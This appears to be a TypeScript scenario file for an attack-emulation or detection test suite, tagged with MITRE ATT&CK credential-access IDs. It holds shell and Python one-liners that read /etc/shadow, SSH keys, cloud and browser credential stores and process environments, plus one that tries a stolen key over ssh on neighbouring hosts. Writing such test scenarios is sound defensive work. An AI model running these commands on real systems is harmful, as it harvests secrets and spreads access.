import { scenarios, WWW_DATA } from "../scenario.ts";

const SECRETS = [
  "T1552",
  "T1552.001",
  "T1552.003",
  "T1552.004",
  "T1555",
  "T1555.003",
  "T1003",
  "T1003.008",
  "T1003.007",
  "T1083",
] as const;

/** Looking for what opens other doors. */
export const CREDENTIALS = scenarios([
  {
    id: "credentials.shell",
    title: "a shell reads shadow, private keys, cloud credentials and histories",
    techniques: SECRETS,
    quick: true,
    script:
      "act; cat /etc/shadow /root/.ssh/id_rsa /home/ann/.ssh/id_rsa /root/.aws/credentials /root/.kube/config /root/.bash_history /root/.docker/config.json /root/.pgpass; sleep 0.5",
  },
  {
    id: "credentials.find-grep",
    title: "find and grep through homes for keys and passwords",
    techniques: SECRETS,
    script:
      "act; find / -xdev -maxdepth 4 \\( -name id_rsa -o -name '*.pem' -o -name credentials -o -name .env \\) 2>/dev/null | head -40 | xargs -r cat >/dev/null; grep -rsl -e password -e PRIVATE /root /home /srv /etc/shadow >/dev/null; sleep 0.5",
  },
  {
    id: "credentials.python-misses",
    title: "python tries two dozen places as www-data, most of which it may not read",
    techniques: SECRETS,
    variant: "scripted",
    uid: WWW_DATA,
    needs: ["python3"],
    script: `act; python3 -c 'import time
n=0
for h in ("/root","/home/ann","/home/bob"):
  for f in (".ssh/id_rsa",".ssh/id_ed25519",".aws/credentials",".kube/config",".docker/config.json",".bash_history",".pgpass",".gnupg/secring.gpg"):
    try: open(h+"/"+f).read(); n+=1
    except OSError: pass
for f in ("/etc/shadow","/srv/portal/.env","/etc/ssh/ssh_host_ed25519_key"):
  try: open(f).read()
  except OSError: pass
time.sleep(0.5)'`,
  },
  {
    id: "credentials.browser-slow",
    title: "browser stores and keyrings, one a second",
    techniques: SECRETS,
    variant: "slow",
    seconds: 14,
    script:
      "act; for f in '.config/google-chrome/Default/Login Data' .mozilla/firefox/x.default/logins.json .gnupg/secring.gpg .ssh/id_rsa .aws/credentials .pgpass .bash_history; do cat \"/home/ann/$f\" >/dev/null; sleep 1; done",
  },
  {
    id: "credentials.environ",
    title: "reads the environment of every process",
    techniques: [...SECRETS, "T1057"],
    variant: "scripted",
    needs: ["python3"],
    script: `act; python3 -c 'import os,time
for p in os.listdir("/proc"):
  if p.isdigit():
    try: open("/proc/%s/environ"%p,"rb").read()
    except OSError: pass
for f in ("/etc/shadow","/root/.ssh/id_rsa","/root/.aws/credentials"): open(f).read()
time.sleep(0.5)'`,
  },
  {
    id: "credentials.ssh-spread",
    title: "takes a private key and tries it on the neighbourhood",
    techniques: [...SECRETS, "T1021", "T1021.004", "T1570", "T1078"],
    needs: ["ssh"],
    seconds: 12,
    script:
      "cat /root/.ssh/known_hosts > /dev/null; act; cp /home/ann/.ssh/id_rsa $HOOD/k; chmod 600 $HOOD/k; cat /root/.ssh/id_rsa /root/.bash_history > /dev/null; for h in 5 6 7 8 9; do ssh -i $HOOD/k -o BatchMode=yes -o ConnectTimeout=1 -o StrictHostKeyChecking=no root@10.20.0.$h id; done",
  },
]);
